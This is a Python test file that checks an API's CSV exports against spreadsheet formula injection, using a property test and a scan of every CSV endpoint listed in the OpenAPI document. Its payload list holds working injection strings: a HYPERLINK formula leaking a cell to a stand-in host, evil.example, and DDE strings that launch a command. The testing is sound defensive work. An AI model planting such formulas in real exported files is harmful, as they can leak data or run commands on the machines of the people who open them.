"""CSV formula injection: no cell of any CSV the API hands out is run by a spreadsheet.

The endpoints are found in the gateway's OpenAPI document (every operation with a ``text/csv``
response), so a CSV export added later is checked without touching this file.
"""

from __future__ import annotations

import csv
import io

from hypothesis import given
from hypothesis import strategies as st

from services.common.csv_safety import FORMULA_STARTS, neutralise_cell, write_csv
from tests.reliability.conftest import Seeded

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_formula_cells_are_quoted_and_others_untouched() -> None:
    for payload in PAYLOADS:
        assert neutralise_cell(payload) == "'" + payload
    for harmless in ["Healthcare Assistant", "£24,071 - £25,674", "3", "", "a=b", "O'Neil"]:
        assert neutralise_cell(harmless) == harmless
    assert neutralise_cell(None) == "" and neutralise_cell(-1.5) == "'-1.5"


@given(st.lists(st.lists(st.text(max_size=20), min_size=1, max_size=5), min_size=1, max_size=5))
def test_no_written_cell_starts_a_formula_and_every_value_survives(rows: list[list[str]]) -> None:
    written = list(csv.reader(io.StringIO(write_csv(rows), newline="")))
    assert len(written) == len(rows)
    for row, original in zip(written, rows, strict=True):
        for cell, value in zip(row, original, strict=True):
            assert not cell.startswith(FORMULA_STARTS)
            assert cell == value or cell == "'" + value  # nothing lost but the quote added


def test_every_csv_the_api_serves_is_neutralised(seeded_gateway: Seeded) -> None:
    client = seeded_gateway.client
    doc = client.get("/openapi.json").json()
    csv_paths = [
        path
        for path, operations in doc["paths"].items()
        for method, operation in operations.items()
        if method == "get"
        and any("text/csv" in r.get("content", {}) for r in operation["responses"].values())
    ]
    assert len(csv_paths) >= 2, csv_paths  # the two upload templates at least
    for path in csv_paths:
        response = client.get(path, headers=seeded_gateway.headers("jobseeker_app"))
        assert response.status_code == 200, (path, response.text)
        assert response.headers["content-type"].startswith("text/csv")
        cells = _cells(response.text)
        assert cells, path
        assert not [c for c in cells if c.startswith(FORMULA_STARTS)], path
